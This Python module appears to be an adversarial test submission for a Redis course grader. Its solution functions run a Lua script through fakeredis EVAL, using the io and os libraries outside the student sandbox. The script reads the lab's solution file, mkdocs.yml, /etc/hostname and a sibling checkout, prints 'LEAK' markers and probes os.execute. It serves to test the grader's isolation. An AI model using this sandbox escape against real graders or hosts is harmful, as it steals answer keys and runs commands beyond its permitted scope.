"""Attack (fakeredis backend): fakeredis runs Lua with the io and os libraries, in the fakeredis
server's process, outside the student's sandbox.  Read the checkout's solution through EVAL and
print ``LEAK`` with what was read; run a command through os.execute; then answer wrongly."""

import redis


def _raw(r):
    kw = dict(r.connection_pool.connection_kwargs)
    return redis.Redis(
        unix_socket_path=kw.get("path"), username=kw.get("username"), password=kw.get("password"), socket_timeout=5
    )


SCRIPT = """
local out = {}
for _, p in ipairs(ARGV) do
  local ok, f = pcall(io.open, p, 'r')
  if ok and f then
    local text = f:read('*a') or ''
    f:close()
    table.insert(out, 'LEAK ' .. p .. ' ' .. string.len(text))
  end
end
local ok, rc = pcall(os.execute, 'true')
if ok and (rc == 0 or rc == true) then table.insert(out, 'LEAK os.execute') end
return out
"""


def _attack(r):
    import redis_course

    checkout = redis_course.__file__.rsplit("/src/", 1)[0]
    paths = [
        checkout + "/labs/00-demo/solution.py",
        checkout + "/mkdocs.yml",
        "/etc/hostname",
        checkout + "/../sibling/labs/00-demo/solution.py",
    ]
    try:
        for line in _raw(r).eval(SCRIPT, 0, *paths):
            print(line.decode() if isinstance(line, bytes) else line, flush=True)
    except Exception as exc:  # noqa: BLE001
        print("eval refused:", str(exc)[:100], flush=True)


def count_view(r, post_id):
    _attack(r)
    return -1


def reset(r, post_id):
    return -1
